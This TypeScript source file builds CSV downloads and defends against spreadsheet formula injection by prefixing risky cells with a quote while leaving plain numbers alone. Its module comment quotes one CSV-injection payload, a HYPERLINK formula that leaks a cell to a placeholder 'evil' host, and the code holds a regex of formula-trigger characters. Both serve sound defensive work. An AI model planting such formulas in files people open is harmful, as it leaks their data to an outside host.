import { stringify } from "csv-stringify/sync";

/**
 * The one CSV writer behind every file a user downloads (memberships export, rejected-rows report):
 * csv-stringify does the RFC 4180 quoting, this module adds the rules every download shares.
 *
 * Formula cells are neutralised. A spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, a tab
 * or a carriage return (and Apple Numbers their full-width forms) as a formula, so a customer id
 * like `=HYPERLINK("http://evil/?"&A1)` taken from an uploaded file would run when the download is
 * opened. Following OWASP's CSV injection advice such a text gets a leading `'`, which spreadsheets
 * show as "this is text" and hide.
 *
 * A text that is a plain number (`-3`, `+1.5`, `-1e-3`) is left alone: a spreadsheet reads it as
 * that number and runs nothing, and a negative quantity must stay a number in the report.
 * csv-stringify's own `escape_formulas` would quote `-3` whenever it arrives as a string (every
 * value read from an uploaded file does), hence the `cast` below instead.
 */
export type CsvCell = string | number | bigint | boolean | Date | null | undefined;

const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const PLAIN_NUMBER = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;

/** `text` as a spreadsheet will show it, never as a formula it runs (see the module comment). */
export function neutraliseFormula(text: string): string {
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text;
}

const OPTIONS = {
  cast: {
    string: neutraliseFormula,
    date: (value: Date) => value.toISOString(),
    boolean: (value: boolean) => String(value),
  },
  // Leading or trailing spaces are quoted so a reader that trims unquoted fields keeps them.
  quoted_match: /^\s|\s$/,
  // "\n" after every record, the last one too: pages of one download are written one after another.
  record_delimiter: "unix",
  // Quote a field holding "\r" or "\n" whatever the record delimiter (csv-stringify stops doing so
  // by default once `record_delimiter` is set, and a bare "\r" splits a row in most readers).
  quote_record_delimiter: true,
  eof: true,
} as const;

/** Records as CSV text, each ended by "\n"; `header` (when given) is the first line. */
export function toCsv(records: readonly (readonly CsvCell[])[], header?: readonly string[]): string {
  const all = header ? [header, ...records] : records;
  if (all.length === 0) return "";
  // csv-stringify's types ask for mutable arrays; it only reads them.
  return stringify(all as CsvCell[][], OPTIONS);
}

/** The header line of a download (CONTRACT.md fixes the names), ended by "\n". */
export function csvHeaderLine(header: readonly string[]): string {
  return toCsv([], header);
}
